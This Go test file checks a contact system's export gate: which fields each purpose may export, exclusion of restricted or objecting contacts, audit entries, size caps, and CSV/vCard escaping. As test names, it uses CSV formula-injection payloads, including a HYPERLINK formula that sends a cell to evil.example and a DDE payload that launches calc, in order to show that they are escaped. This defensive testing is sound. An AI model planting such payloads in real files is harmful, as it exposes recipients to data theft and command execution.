package gate_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf8"

	"tresor"
	"tresor/gate"
	"tresor/importer"
)

// exported runs an export as ctx and returns the file and the result.
func exported(t *testing.T, g *gate.Gate, ctx context.Context, req tresor.ExportRequest) (string, *tresor.ExportResult) {
	t.Helper()
	var buf bytes.Buffer
	res, err := g.ExportContacts(ctx, req, &buf)
	if err != nil {
		t.Fatalf("export %+v: %v", req, err)
	}
	return buf.String(), res
}

// csvRows reads an exported CSV: the byte order mark first, then the rows.
func csvRows(t *testing.T, file string, sep rune) [][]string {
	t.Helper()
	body, ok := strings.CutPrefix(file, "\ufeff")
	if !ok {
		t.Fatalf("the CSV does not begin with a byte order mark: %q", file[:min(len(file), 20)])
	}
	r := csv.NewReader(strings.NewReader(body))
	r.Comma = sep
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, body)
	}
	return rows
}

// rowOf returns the cells of the contact id by column name.
func rowOf(t *testing.T, rows [][]string, id string) map[string]string {
	t.Helper()
	for _, r := range rows[1:] {
		if r[0] == id {
			m := map[string]string{}
			for i, h := range rows[0] {
				m[h] = r[i]
			}
			return m
		}
	}
	t.Fatalf("contact %s is not in the export", id)
	return nil
}

// exportees counts the contacts exportee made: each has its own address,
// number, handle and postal address (an objection suppresses them for marketing).
var exportees atomic.Int64

// exportee is a contact with a value in every field an export can hold.
func exportee(given, family string) *tresor.Contact {
	n := exportees.Add(1)
	return &tresor.Contact{ContactDetails: tresor.ContactDetails{GivenName: given, FamilyName: family,
		Emails: []string{fmt.Sprintf("export%d@example.de", n)}, Phones: []string{fmt.Sprintf("+49 30 %07d", 1000000+n)},
		PostalAddress: &tresor.PostalAddress{Street: fmt.Sprintf("Hauptstraße %d", n), PostalCode: "80331", City: "München", Country: "DE"},
		SocialHandles: []tresor.SocialHandle{{Network: "mastodon", Handle: fmt.Sprintf("@p%d@social.example", n)}},
		Organization:  "Muster GmbH", Position: "Einkäuferin", PreferredLanguage: "de"},
		Collection: tresor.Collection{LegalBasis: tresor.BasisContract}}
}

func TestExportHoldsOnlyWhatThePurposeMaySee(t *testing.T) {
	privacyBackends(t, func(t *testing.T, e *privacyEnv) {
		sales, marketing := e.ctx["sales"], e.ctx["marketing"]
		c := exportee("Erika", "Export")
		must(t, e.g.CreateContact(sales, c))
		sel := tresor.ExportRequest{IDs: []string{c.ID}}
		t.Run("marketing exports no postal address column, and says it withheld it", func(t *testing.T) {
			file, res := exported(t, e.g, marketing, sel)
			rows := csvRows(t, file, ',')
			for _, col := range []string{"street", "postal_code", "city", "region", "country"} {
				if slices.Contains(rows[0], col) {
					t.Errorf("marketing's export has the column %s: %v", col, rows[0])
				}
			}
			if strings.Contains(file, "Hauptstraße") || strings.Contains(file, "80331") {
				t.Errorf("marketing's export holds the postal address:\n%s", file)
			}
			if !slices.Contains(res.Withheld, tresor.CatContactPostal) {
				t.Errorf("the result does not name the withheld postal address: %v", res.Withheld)
			}
			if got := rowOf(t, rows, c.ID); got["given_name"] != "Erika" || got["emails"] != c.Emails[0] {
				t.Errorf("marketing's export lacks what it may see: %v", got)
			}
		})
		t.Run("marketing's vCard has no ADR", func(t *testing.T) {
			file, _ := exported(t, e.g, marketing, tresor.ExportRequest{IDs: []string{c.ID}, Format: tresor.ExportVCard})
			if strings.Contains(file, "\r\nADR") || strings.Contains(file, "Hauptstra") {
				t.Errorf("marketing's vCard holds the postal address:\n%s", file)
			}
			if !strings.Contains(file, "\r\nEMAIL:"+c.Emails[0]+"\r\n") {
				t.Errorf("marketing's vCard lacks the e-mail address it may see:\n%s", file)
			}
		})
		t.Run("sales exports every field it may see, the postal address too", func(t *testing.T) {
			file, res := exported(t, e.g, sales, sel)
			got := rowOf(t, csvRows(t, file, ','), c.ID)
			want := map[string]string{"given_name": "Erika", "family_name": "Export", "emails": c.Emails[0],
				"phones": "'" + c.Phones[0], "street": c.PostalAddress.Street, "postal_code": "80331", "city": "München", "country": "DE",
				"social_handles": "mastodon:" + c.SocialHandles[0].Handle, "organization": "Muster GmbH", "position": "Einkäuferin"}
			for k, v := range want {
				if got[k] != v {
					t.Errorf("column %s is %q, want %q", k, got[k], v)
				}
			}
			if slices.Contains(res.Withheld, tresor.CatContactPostal) {
				t.Errorf("sales sees postal addresses, yet the result withholds them: %v", res.Withheld)
			}
		})
	})
}

func TestExportFiles(t *testing.T) {
	privacyBackends(t, func(t *testing.T, e *privacyEnv) {
		sales := e.ctx["sales"]
		t.Run("a cell beginning with = + - @ is escaped", func(t *testing.T) {
			for _, name := range []string{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"} {
				c := exportee(name, "Formel")
				must(t, e.g.CreateContact(sales, c))
				file, _ := exported(t, e.g, sales, tresor.ExportRequest{IDs: []string{c.ID}})
				if got := rowOf(t, csvRows(t, file, ','), c.ID)["given_name"]; got != "'"+name {
					t.Errorf("the given name %q is exported as %q, want it behind a quote", name, got)
				}
			}
		})
		t.Run("the CSV begins with a byte order mark and ; separates on request", func(t *testing.T) {
			c := exportee("Semi", "Kolon; GmbH")
			must(t, e.g.CreateContact(sales, c))
			file, _ := exported(t, e.g, sales, tresor.ExportRequest{IDs: []string{c.ID}, Separator: ';'})
			if !strings.HasPrefix(file, "\xef\xbb\xbfid;given_name;family_name;") {
				t.Fatalf("the file begins %q, want the BOM and a header separated by ;", file[:min(len(file), 40)])
			}
			if got := rowOf(t, csvRows(t, file, ';'), c.ID)["family_name"]; got != "Kolon; GmbH" {
				t.Errorf("a name with a semicolon comes back as %q", got)
			}
		})
		t.Run("a vCard escapes commas, semicolons and backslashes", func(t *testing.T) {
			c := exportee(`Anna, Maria`, `Back\slash; Semi`)
			c.Organization = "Müller, Söhne; Co"
			must(t, e.g.CreateContact(sales, c))
			file, _ := exported(t, e.g, sales, tresor.ExportRequest{IDs: []string{c.ID}, Format: tresor.ExportVCard})
			for _, want := range []string{`FN:Anna\, Maria Back\\slash\; Semi`, `N:Back\\slash\; Semi;Anna\, Maria;;;`,
				`ORG:Müller\, Söhne\; Co`, "BEGIN:VCARD\r\nVERSION:4.0\r\n", "UID:urn:uuid:" + c.ID} {
				if !strings.Contains(file, want) {
					t.Errorf("the card lacks %q:\n%s", want, file)
				}
			}
		})
		t.Run("a vCard folds lines at 75 octets, never inside a character", func(t *testing.T) {
			c := exportee("Lang", "Zeile")
			c.Position = strings.TrimSpace(strings.Repeat("Größenwahnsinnige Bärenführerin ", 5))
			must(t, e.g.CreateContact(sales, c))
			file, _ := exported(t, e.g, sales, tresor.ExportRequest{IDs: []string{c.ID}, Format: tresor.ExportVCard})
			folded := 0
			for _, line := range strings.Split(strings.TrimSuffix(file, "\r\n"), "\r\n") {
				if len(line) > 75 {
					t.Errorf("a line has %d octets: %q", len(line), line)
				}
				if !utf8.ValidString(line) {
					t.Errorf("a fold split a character: %q", line)
				}
				if strings.HasPrefix(line, " ") {
					folded++
				}
			}
			if folded < 2 {
				t.Errorf("the long position was not folded:\n%s", file)
			}
			if unfolded := strings.ReplaceAll(file, "\r\n ", ""); !strings.Contains(unfolded, "TITLE:"+c.Position+"\r\n") {
				t.Errorf("unfolded, the card does not give the position back:\n%s", unfolded)
			}
		})
		t.Run("a hostile name survives both formats and reads back as it was", func(t *testing.T) {
			// (A backslash is escaped as the escapes above show; the
			// importer's reader takes \\; for an escaped semicolon, so it is
			// left out of the round trip.)
			given, family := `=HYPERLINK("http://evil.example/?x=";"Click")`, `Name;With,Separators`
			c := exportee(given, family)
			must(t, e.g.CreateContact(sales, c))
			for _, sep := range []rune{',', ';'} {
				file, _ := exported(t, e.g, sales, tresor.ExportRequest{IDs: []string{c.ID}, Separator: sep})
				rows := csvRows(t, file, sep)
				if len(rows) != 2 {
					t.Fatalf("separator %q: the hostile name broke the rows: %d rows", sep, len(rows))
				}
				got := rowOf(t, rows, c.ID)
				if got["given_name"] != "'"+given || got["family_name"] != family {
					t.Errorf("separator %q: the names are %q and %q", sep, got["given_name"], got["family_name"])
				}
			}
			file, _ := exported(t, e.g, sales, tresor.ExportRequest{IDs: []string{c.ID}, Format: tresor.ExportVCard})
			r, err := importer.Open(importer.VCard, strings.NewReader(file), importer.Options{})
			must(t, err)
			rec, err := r.Next()
			must(t, err)
			if rec.GivenName != given || rec.FamilyName != family || rec.Organization != "Muster GmbH" {
				t.Errorf("the card reads back as %q %q (%q):\n%s", rec.GivenName, rec.FamilyName, rec.Organization, file)
			}
			if _, err := r.Next(); err != io.EOF {
				t.Errorf("the hostile name made a second card: %v", err)
			}
		})
		t.Run("an unknown format or separator is refused", func(t *testing.T) {
			var buf bytes.Buffer
			_, err := e.g.ExportContacts(sales, tresor.ExportRequest{Format: "xlsx"}, &buf)
			wantCode(t, err, tresor.ECInvalidParameter)
			_, err = e.g.ExportContacts(sales, tresor.ExportRequest{Separator: '\t'}, &buf)
			wantCode(t, err, tresor.ECInvalidParameter)
			if buf.Len() != 0 {
				t.Errorf("a refused export wrote %q", buf.String())
			}
		})
	})
}

func TestExportRules(t *testing.T) {
	privacyBackends(t, func(t *testing.T, e *privacyEnv) {
		sales, dpo, marketing := e.ctx["sales"], e.ctx["data_protection"], e.ctx["marketing"]
		must(t, e.g.WaitSearch(bg))
		t.Run("restricted contacts are not exported by sales, in a selection, a list or a search", func(t *testing.T) {
			open, closed := exportee("Offen", "Beschränkt"), exportee("Gesperrt", "Beschränkt")
			must(t, e.g.CreateContact(sales, open))
			must(t, e.g.CreateContact(sales, closed))
			_, err := e.g.Restrict(dpo, closed.ID, true)
			must(t, err)
			_, res := exported(t, e.g, sales, tresor.ExportRequest{IDs: []string{open.ID, closed.ID}})
			if !slices.Equal(res.IDs, []string{open.ID}) || res.Skipped != 1 {
				t.Errorf("the selection exported %v (%d left out), want only the unrestricted contact", res.IDs, res.Skipped)
			}
			file, res := exported(t, e.g, sales, tresor.ExportRequest{})
			if slices.Contains(res.IDs, closed.ID) || strings.Contains(file, "Gesperrt") || !slices.Contains(res.IDs, open.ID) {
				t.Errorf("the list exported %v", res.IDs)
			}
			_, res = exported(t, e.g, sales, tresor.ExportRequest{Filter: tresor.ContactFilter{Query: "beschränkt"}})
			if !slices.Equal(res.IDs, []string{open.ID}) {
				t.Errorf("the search exported %v, want only the unrestricted contact", res.IDs)
			}
			_, res = exported(t, e.g, dpo, tresor.ExportRequest{Filter: tresor.ContactFilter{Query: "beschränkt"}})
			if !slices.Contains(res.IDs, closed.ID) {
				t.Errorf("the data protection officer's search did not export the restricted contact: %v", res.IDs)
			}
		})
		t.Run("a person who objected is not exported for marketing", func(t *testing.T) {
			c := exportee("Widerspruch", "Eingelegt")
			must(t, e.g.CreateContact(sales, c))
			_, err := e.g.Object(dpo, c.ID)
			must(t, err)
			for _, req := range []tresor.ExportRequest{{IDs: []string{c.ID}}, {}, {Filter: tresor.ContactFilter{Query: "widerspruch"}}} {
				if _, res := exported(t, e.g, marketing, req); slices.Contains(res.IDs, c.ID) {
					t.Errorf("marketing exported a person who objected (%+v)", req)
				}
			}
		})
		t.Run("the audit entry names every exported id and the categories shown", func(t *testing.T) {
			a, b := exportee("Audit", "Eins"), exportee("Audit", "Zwei")
			must(t, e.g.CreateContact(sales, a))
			must(t, e.g.CreateContact(sales, b))
			_, res := exported(t, e.g, marketing, tresor.ExportRequest{Filter: tresor.ContactFilter{Query: "audit"}, Format: tresor.ExportVCard})
			l, err := e.g.AuditLog(system(), tresor.AuditFilter{Action: "contact.export", Page: tresor.Page{Limit: tresor.MaxPageSize}})
			must(t, err)
			if len(l.Items) == 0 {
				t.Fatal("no contact.export entry")
			}
			last := l.Items[0]
			for _, x := range l.Items {
				if x.Seq > last.Seq {
					last = x
				}
			}
			if !slices.Equal(last.ObjectIDs, res.IDs) || !slices.Contains(last.ObjectIDs, a.ID) || !slices.Contains(last.ObjectIDs, b.ID) {
				t.Errorf("the entry names %v, the export held %v", last.ObjectIDs, res.IDs)
			}
			if !slices.Contains(last.Categories, tresor.CatContactName) || slices.Contains(last.Categories, tresor.CatContactPostal) {
				t.Errorf("the entry's categories are %v: the names shown, never the postal address withheld", last.Categories)
			}
			if strings.Contains(last.Detail, "audit") {
				t.Errorf("the entry repeats the search: %q", last.Detail)
			}
		})
		t.Run("the cap refuses a selection before writing anything, in both languages", func(t *testing.T) {
			ids := make([]string, tresor.MaxExport+1)
			for i := range ids {
				ids[i] = fmt.Sprintf("0190f5a4-7c3e-7a51-9b0e-%012d", i)
			}
			var buf bytes.Buffer
			_, err := e.g.ExportContacts(sales, tresor.ExportRequest{IDs: ids}, &buf)
			wantCode(t, err, tresor.ECExportTooLarge)
			if buf.Len() != 0 {
				t.Errorf("the refused export wrote %d bytes", buf.Len())
			}
			if x := tresor.AsError(err); !strings.Contains(x.Message, "10000") || !strings.Contains(x.MessageDE, "10000") {
				t.Errorf("the refusal does not name the cap in both languages: %+v", x)
			}
		})
		t.Run("the cap refuses a list larger than it before writing anything", func(t *testing.T) {
			batch := make([]*tresor.Contact, 0, tresor.MaxExport+1)
			for i := range tresor.MaxExport + 1 {
				c := &tresor.Contact{ContactDetails: tresor.ContactDetails{GivenName: "Massen", FamilyName: fmt.Sprintf("Kontakt%05d", i)},
					Collection: tresor.Collection{LegalBasis: tresor.BasisContract}}
				batch = append(batch, c)
			}
			must(t, e.g.CreateContacts(sales, batch))
			for _, req := range []tresor.ExportRequest{{}, {Filter: tresor.ContactFilter{Query: "massen"}}} {
				var buf bytes.Buffer
				_, err := e.g.ExportContacts(sales, req, &buf)
				wantCode(t, err, tresor.ECExportTooLarge)
				if buf.Len() != 0 {
					t.Errorf("the refused export (%+v) wrote %d bytes", req, buf.Len())
				}
			}
			t.Run("a selection of exactly the cap is exported and audited with every id", func(t *testing.T) {
				ids := make([]string, tresor.MaxExport)
				for i := range ids {
					ids[i] = batch[i].ID
				}
				start := time.Now()
				file, res := exported(t, e.g, sales, tresor.ExportRequest{IDs: ids, Format: tresor.ExportVCard})
				t.Logf("%d contacts as vCard: %d bytes in %v", len(res.IDs), len(file), time.Since(start))
				if len(res.IDs) != tresor.MaxExport || strings.Count(file, "BEGIN:VCARD\r\n") != tresor.MaxExport {
					t.Fatalf("exported %d ids, %d cards", len(res.IDs), strings.Count(file, "BEGIN:VCARD\r\n"))
				}
				l, err := e.g.AuditLog(system(), tresor.AuditFilter{Action: "contact.export", ContactID: ids[tresor.MaxExport-1], Page: tresor.Page{Limit: 10}})
				must(t, err)
				if len(l.Items) != 1 || !slices.Equal(l.Items[0].ObjectIDs, ids) {
					t.Errorf("the audit trail holds %d export entries for the last contact", len(l.Items))
				}
			})
		})
	})
}
